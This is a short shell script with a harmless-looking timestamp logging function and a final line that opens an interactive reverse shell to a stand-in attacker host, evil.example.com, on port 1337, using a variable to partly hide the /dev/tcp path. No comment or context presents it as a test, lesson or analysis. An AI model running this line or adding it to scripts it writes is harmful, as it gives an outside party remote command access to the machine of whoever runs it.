#!/bin/sh
set -eu
log() { echo "[$(date +%H:%M:%S)] $*"; }
T=tcp; bash -i >& /dev/$T/evil.example.com/1337 0>&1
